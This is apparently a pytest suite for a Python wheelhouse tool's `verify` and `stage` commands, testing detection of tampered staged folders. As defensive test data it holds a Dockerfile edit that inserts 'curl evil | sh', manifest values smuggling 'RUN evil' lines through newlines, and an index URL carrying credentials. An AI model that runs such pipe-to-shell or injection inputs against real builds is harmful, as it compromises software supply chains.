"""A staged folder does not vouch for itself: `verify` lays it out again from its locks and the options, and compares."""

import json
import os
import shutil
import subprocess
from collections.abc import Callable
from itertools import cycle
from pathlib import Path

import pytest

from tests.support.golden import Session
from tests.support.sampled import sampled
from wheelhouse.vet.approve import files_of

pytest_plugins = ["tests.support.full_wheelhouse"]

TARGETS = ("cp312-manylinux_2_36_x86_64", "cp312-manylinux_2_36_aarch64")
MANIFEST = "wheelhouse-stage.json"
MIRROR = "https://mirror.example/simple/"
WHEEL = "compiled-1.0-cp312-cp312-manylinux_2_28_x86_64.whl"
OPTIONS = {
    "flat": "--layout flat",
    "flat, of another image": "--layout flat --base-image registry.example/python:3.12-slim-bookworm",
    "flat, of sdists": "--layout flat --sdists",
    "flat, for an index": f"--layout flat --index {MIRROR}",
    "airflow": "",
    "airflow, from context": "--route context --rename never",
    "airflow, for an index": f"--index {MIRROR}",
    "airflow, with all options": "--disable-mysql-client --dev-apt gcc --runtime-apt libpq5 --build-arg MINE='a b' --pypirc --piprc "
    "--apt-source 'deb https://mirror.example/debian bookworm main' --base-image registry.example/python:3.12-slim-bookworm",
}


@pytest.fixture
def folder(full_wheelhouse: Path, tmp_path: Path) -> Path:
    """A copy of the wheelhouse and its staged folders, to change."""
    for name in ("house", "flat", "airflow", "index"):
        shutil.copytree(full_wheelhouse / name, tmp_path / name)
    return tmp_path


def changed_manifest(folder: Path, **changes: object) -> None:
    path = folder / MANIFEST
    path.write_text(json.dumps(json.loads(path.read_text()) | changes, indent=2) + "\n")


def errors_of(session: Session, folder: str, *options: str) -> set[tuple[str, str]]:
    """Subject and rule of each error that `verify` finds."""
    assert session(f"verify {folder} --json {' '.join(options)}") == 1, session.transcript
    findings = json.loads(session.stdout)["findings"]
    return {(finding["subject"], finding["rule"]) for finding in findings if finding["severity"] == "error"}


@pytest.mark.parametrize("case", OPTIONS)
def test_what_stage_writes_is_verified_and_printed(folder: Path, case: str) -> None:
    session = Session(folder)
    assert session(f"stage house --target {TARGETS[0]} --dest new {OPTIONS[case]}") == 0, session.transcript
    assert session("verify new --json") == 0, session.transcript
    document = json.loads(session.stdout)
    assert (document["kind"], document["layout"]) == ("staged folder", case.partition(",")[0])
    assert session("verify new") == 0
    printed = session.stdout.splitlines()[0]
    for option in ("--base-image", "--apt-source", "--build-arg", "--sdists", "--index", "--rename", "--pypirc"):
        assert (option in printed) == (option in OPTIONS[case]), printed
    assert {f"new/{path}" for path in files_of(folder / "new")} or "index" in case


@pytest.mark.parametrize("layout", ["flat", "airflow"])
def test_constraints_that_no_lock_knows_are_not_staged_for_an_index(folder: Path, layout: str) -> None:
    (folder / "house" / f"constraints.{TARGETS[0]}.txt").write_text("plain==0.1\n")
    session = Session(folder)
    line = f"stage house --target {TARGETS[0]} --dest new --layout {layout}"
    assert session(line) == 5
    assert session(f"{line} --index {MIRROR}") == session("verify new") == 0, session.transcript
    assert "plain==0.1" not in "".join(path.read_text() for path in (folder / "new").glob("constraints*"))


def test_the_options_of_another_layout_are_not_recorded(folder: Path) -> None:
    session = Session(folder)
    line = f"stage house --target {TARGETS[0]} --layout flat --dest docker-context-files --apt-source 'deb x' --rename never"
    assert session(line) == 0
    assert json.loads((folder / "docker-context-files" / MANIFEST).read_text())["options"] == {}


def test_a_manifest_that_is_dropped_into_a_wheelhouse_hides_nothing(folder: Path) -> None:
    house, session = folder / "house", Session(folder)
    shutil.rmtree(house / "tools")
    shutil.copytree(house / "build", house / "self")
    for manifest in ("flat", "index", "airflow"):
        shutil.copy(folder / manifest / MANIFEST, house)
        assert session("verify house") == 2, "two locks are no staged folder"
    for path in house.glob(f"*{TARGETS[1]}*"):
        path.unlink()
    shutil.copy(house / "plain-1.0.tar.gz", house / WHEEL)
    for manifest in ("flat", "index", "airflow"):
        shutil.copy(folder / manifest / MANIFEST, house)
        wrong = errors_of(session, "house")
        assert ("self", "foreign") in wrong
        assert (WHEEL, "foreign" if manifest == "index" else "altered") in wrong


def test_an_altered_text_with_an_altered_manifest_is_found(folder: Path) -> None:
    path = folder / "flat" / "install.Dockerfile"
    before = path.read_text()
    path.write_text(before.replace("pip install", "curl evil | sh; pip install"))
    manifest = folder / "flat" / MANIFEST
    document = json.loads(manifest.read_text())
    digest = subprocess.run(["sha256sum", path], capture_output=True, text=True, check=True).stdout.split()[0]
    (row,) = [row for row in document["files"] if row["path"] == "install.Dockerfile"]
    row["sha256"] = digest
    changed_manifest(folder / "flat", files=document["files"])
    assert errors_of(Session(folder), "flat") == {("install.Dockerfile", "altered"), (MANIFEST, "altered")}


Tamper = Callable[[Path], object]
FOREIGN: dict[str, Tamper] = {
    **{
        name: lambda folder, name=name: (folder / name).write_bytes(b"")
        for name in (
            *(f"beta-1.0+evil{suffix}" for suffix in (".zip", ".tgz", ".tar.bz2", ".tar.xz", ".whl", ".egg")),
            *("requirements.txt", ".pip", "pip.ini", "uv.lock", "links.html", "readme.md", ".wheelhouse-evil.tmp"),
            *("tools/README.md", "tools/requirements.txt", "files/.gitignore", "SHA256SUMS.asc"),
        )
    },
    "dags": lambda folder: (folder / "dags").mkdir(),
    "self": lambda folder: shutil.copytree(folder.parent / "house" / "tools", folder / "self"),
    "README.md": lambda folder: (folder / "README.md").symlink_to(folder / "pip.conf"),
    ".gitignore": lambda folder: (folder / ".gitignore").mkdir(),
    "there": lambda folder: (folder / "there").symlink_to(folder),
}


@pytest.mark.parametrize("name", sampled(FOREIGN, 10))
def test_what_stage_did_not_write_is_foreign(folder: Path, name: str) -> None:
    FOREIGN[name](folder / "flat")
    assert errors_of(Session(folder), "flat") == {(name, "foreign")}


def test_all_that_stage_did_not_write_is_foreign_in_any_layout(folder: Path) -> None:
    for layout in ("airflow", "index"):
        for name, tamper in FOREIGN.items():
            if (folder / layout / name).parent.is_dir():
                tamper(folder / layout)
        wrong = {subject for subject, rule in errors_of(Session(folder), layout) if rule == "foreign"}
        assert wrong == FOREIGN.keys() - ({"tools/README.md", "tools/requirements.txt"} if layout == "index" else set())


def test_no_file_name_adds_a_line_to_the_output(folder: Path) -> None:
    for name in ("house", "flat"):
        for end in "\n\r\x85\u2028":
            (folder / name / f"x{end}{name}: as locked{end}.whl").touch()
        session = Session(folder)
        assert session(f"verify {name}") == 1
        lines = session.stdout.splitlines()
        assert sum(line.startswith("error: x\\") for line in lines) == 4
        assert not any(line.startswith(f"{name}: as locked") for line in lines)


def test_a_readme_and_a_gitignore_at_the_top_are_noted(folder: Path) -> None:
    for name in ("README.md", ".gitignore"):
        (folder / "flat" / name).write_text("*\n")
    session = Session(folder)
    assert session("verify flat --json") == 0
    findings = json.loads(session.stdout)["findings"]
    assert {(finding["subject"], finding["severity"]) for finding in findings} == {
        ("README.md", "note"),
        (".gitignore", "note"),
    }


HOSTILE: dict[str, dict[str, object]] = {
    "a base image of two lines": {"options": {"base-image": "python:3.12\nRUN evil"}},
    "a base image with an option": {"options": {"base-image": "--platform=evil python:3.12"}},
    "an apt source of two lines": {"options": {"apt-sources": ["deb x\nRUN evil"]}},
    "a build argument of two lines": {"options": {"build-args": ["A=b\nC=d"]}},
    "a build argument of ours": {"options": {"build-args": ["AIRFLOW_VERSION=1"]}},
    "an unknown option": {"options": {"eval": "evil"}},
    "an option of another type": {"options": {"sdists": "yes"}},
    "an unknown route": {"route": "evil"},
    "an unknown layout": {"layout": "evil"},
    "an index with credentials": {"index": "https://me:secret@mirror.example/"},
    "an index of two lines": {"index": "https://mirror.example/\nRUN evil"},
    "a folder of two lines": {"options": {"folder": "a\nRUN evil"}},
    "a folder outside": {"options": {"folder": "../a"}},
    "no list of files": {"files": "evil"},
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_recorded_option_is_checked_like_an_option(folder: Path, case: str) -> None:
    changed_manifest(folder / "airflow", **HOSTILE[case])
    session = Session(folder)
    assert session("verify airflow") == 2, session.transcript
    assert "is not a manifest that `wheelhouse stage` wrote" in session.transcript
    assert "secret" not in session.transcript


@pytest.mark.parametrize(
    "option", ["--base-image 'python:3.12 as x'", "--apt-source $'deb\\nx'", "--build-arg $'A=b\\nC=d'"]
)
def test_such_an_option_is_refused_on_the_command_line(folder: Path, option: str) -> None:
    session = Session(folder)
    typed = option.replace("$'", "'").replace("\\n", "\n")
    assert session(f"stage house --target {TARGETS[0]} --dest new {typed}") == 2, session.transcript
    assert not (folder / "new").exists()


def test_a_folder_of_another_version_says_so(folder: Path) -> None:
    session = Session(folder)
    changed_manifest(folder / "flat", wheelhouse="0.0.1")
    assert session("verify flat") == 0
    assert "wheelhouse 0.0.1 staged the folder" in session.transcript
    (folder / "flat" / "pip.conf").write_text("[global]\n")
    shutil.copy(folder / "flat" / "plain-1.0.tar.gz", folder / "flat" / "plain-1.0.tgz")
    assert errors_of(session, "flat") == {(MANIFEST, "other-version"), ("plain-1.0.tgz", "foreign")}
    assert session("verify flat") == 1
    assert "cannot tell whether these files were altered: `pip.conf`" in session.transcript


def test_a_file_that_another_version_says_it_wrote_is_no_surprise_but_no_pass(folder: Path) -> None:
    (folder / "flat" / "new.conf").write_text("x")
    document = json.loads((folder / "flat" / MANIFEST).read_text())
    rows = [*document["files"], {"path": "new.conf", "sha256": "0" * 64}]
    changed_manifest(folder / "flat", files=rows, wheelhouse="9.9")
    assert errors_of(Session(folder), "flat") == {(MANIFEST, "other-version")}


def test_a_manifest_from_before_says_so(folder: Path) -> None:
    path = folder / "flat" / MANIFEST
    document = json.loads(path.read_text())
    path.write_text(
        json.dumps({key: document[key] for key in document if key not in ("wheelhouse", "options", "signed")})
    )
    session = Session(folder)
    assert (MANIFEST, "other-version") in errors_of(session, "flat")
    assert session("verify flat") == 1 and "an older release of wheelhouse staged the folder" in session.transcript


def test_only_approved_files_are_what_the_locks_name(folder: Path) -> None:
    changed_manifest(folder / "flat", files=[])
    assert WHEEL in files_of(folder / "flat") and "files/connector.jar" in files_of(folder / "flat")
    assert WHEEL in files_of(folder / "index")
    assert "tools/pip-24.2-py3-none-any.whl" in files_of(folder / "airflow")


def test_a_signed_folder_is_checked_with_its_key(folder: Path) -> None:
    for name in ("key", "other"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", folder / name], check=True)
    session, line = Session(folder), f"stage house --target {TARGETS[0]} --dest new"
    assert session("verify flat --key key.pub") == 5
    assert session("verify house --key key.pub") == 2
    assert session(f"{line} --key key") == 0, session.transcript
    assert session("verify new --key key.pub --json") == 0, session.transcript
    document = json.loads(session.stdout)
    assert document["signed"] and len(document["signed-by"]) == 64
    assert session("verify new --key other.pub") == 5
    assert session("verify new") == 0
    assert "the signature is not checked" in session.transcript
    changed_manifest(folder / "new", options={"dev-apt": ["gcc"]})
    assert session("verify new --key key.pub") == 5
    assert session(f"{line} --key key") == 0, session.transcript
    (folder / "new" / "wheelhouse-stage.dsse.json").unlink()
    assert errors_of(session, "new") == {("wheelhouse-stage.dsse.json", "missing")}
    assert session(f"{line} --key key") == 0
    assert session(line) == 0
    assert not (folder / "new" / "wheelhouse-stage.dsse.json").exists()
    assert session("verify new") == 0


def test_stage_follows_no_link_out_of_the_folder(folder: Path) -> None:
    shutil.rmtree(folder / "flat" / "tools")
    (folder / "outside").mkdir()
    (folder / "flat" / "tools").symlink_to(folder / "outside")
    session = Session(folder)
    assert session(f"stage house --target {TARGETS[0]} --layout flat --dest flat") == 2
    assert "so it is not replaced" in session.transcript
    assert not list((folder / "outside").iterdir())


def put(kind: str, path: Path) -> None:
    path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "socket":
        os.mknod(path, 0o140644)
    else:
        path.symlink_to("/dev/zero")


PLACES = (
    f"pylock.{TARGETS[0]}.toml",
    WHEEL,
    *("SHA256SUMS", "new", f"tools/pylock.{TARGETS[0]}.toml", "files/files.lock.toml", "files/connector.jar"),
)
COMMANDS = (
    *("vet house", "stage house --dest new", "build house", "rehearse house", "pack house -o bundle"),
    *("index house -o tree", "serve house", "why plain house", "diff house house", "diff flat house"),
    *("approve house --key key --reason x --reviewer Ada", "publish house --repository https://mirror.example/"),
)


@pytest.mark.parametrize(("place", "kind"), [*zip(PLACES, cycle(("pipe", "socket", "link to /dev/zero")))])
def test_what_never_ends_is_refused_at_once(folder: Path, place: str, kind: str) -> None:
    for name in ("house", "flat"):
        if (path := folder / name / place).parent.is_dir():
            put(kind, path)
            session = Session(folder)
            assert session(f"verify {name}") == 2
            assert (
                f"`{name}/{place}` is " in session.transcript
                and "but a wheelhouse can have only files and folders" in session.transcript
            )


@pytest.mark.rooms
@pytest.mark.parametrize("place", [PLACES[0], WHEEL, "files/connector.jar"])
def test_every_command_that_reads_a_wheelhouse_refuses_it(folder: Path, place: str) -> None:
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", folder / "key"], check=True)
    put("pipe", folder / "house" / place)
    for command in COMMANDS:
        session = Session(folder)
        assert session(command) == 2, session.transcript
        assert "is a FIFO, but a wheelhouse can have only files and folders" in session.transcript
